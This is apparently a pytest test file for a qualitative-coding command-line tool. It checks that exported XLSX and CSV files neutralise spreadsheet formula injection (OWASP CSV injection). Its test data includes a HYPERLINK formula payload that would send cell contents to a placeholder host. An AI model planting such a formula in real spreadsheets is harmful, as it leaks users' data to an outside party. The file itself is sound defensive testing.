"""User text never becomes a live formula in a spreadsheet (OWASP CSV injection).

A code name, a coder's name and quotes each start with one of the trigger characters; every
file a spreadsheet opens (XLSX report, CSV report, codings CSV, codebook CSV) keeps them as text.
"""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import pytest
from click.testing import CliRunner, Result
from openpyxl import load_workbook

from codebench.cli import cli

LEAK = '=HYPERLINK("http://example.invalid/leak?x="&A1,"klik")'
TRANSCRIPT = (
    "Interviewer: Hoe begon het?\n\n"
    "Respondent 1: +31 belde ons. -Dat was raar. @iedereen las mee. =1+1 stond in de mail.\n"
)
QUOTES = ("+31 belde ons.", "-Dat was raar.", "@iedereen las mee.", "=1+1 stond in de mail.")
CODER = "@coder"


def run(*args: str) -> Result:
    result = CliRunner().invoke(cli, list(args))
    assert result.exit_code == 0, result.output
    return result


@pytest.fixture
def folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.chdir(tmp_path)
    monkeypatch.delenv("CODEBENCH_PROJECT", raising=False)
    run("init", "study.codebench")
    (tmp_path / "int.txt").write_text(TRANSCRIPT, encoding="utf-8")
    run("import", "int.txt", "--language", "nl")
    run("codebook", "add", LEAK)
    for quote in QUOTES:
        run("code", "int", LEAK, "--quote", quote, "--coder", CODER, "--exemplar")
    return tmp_path


def test_xlsx_stores_every_text_as_text_never_as_a_formula(folder: Path) -> None:
    path = folder / "report.xlsx"
    run("export", str(path), "--coder", CODER)
    with zipfile.ZipFile(path) as book:
        sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/sheet")]
        assert sheets
        assert all(b"<f>" not in book.read(name) for name in sheets)
    cells = [
        cell
        for sheet in load_workbook(path).worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@"))
    ]
    assert LEAK in {cell.value for cell in cells}  # the code name, exactly as typed
    assert {cell.data_type for cell in cells} == {"s"}


def test_csv_report_and_codings_prefix_every_trigger_with_an_apostrophe(folder: Path) -> None:
    out = folder / "tables.csv"
    run("export", str(out), "--coder", CODER)
    written = "".join(p.read_text(encoding="utf-8") for p in sorted(folder.glob("tables*.csv")))
    listing = run("codings", "--format", "csv").output
    for text in (written, listing):
        cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
        assert "'" + LEAK in cells
        assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    quotes = {row["text"] for row in csv.DictReader(io.StringIO(listing))}
    assert quotes == {"'" + quote for quote in QUOTES}
    assert {row["coder"] for row in csv.DictReader(io.StringIO(listing))} == {"'" + CODER}


def test_codebook_csv_is_inert_and_reads_back_the_same_name(folder: Path) -> None:
    path = folder / "codebook.csv"
    run("codebook", "export", str(path))
    cells = [cell for row in csv.reader(io.StringIO(path.read_text("utf-8-sig"))) for cell in row]
    assert "'" + LEAK in cells
    run("init", "other.codebench")
    run("codebook", "load", str(path), "--project", "other.codebench")
    shown = run("codebook", "show", "--project", "other.codebench").output
    assert "HYPERLINK" in shown and "'=" not in shown
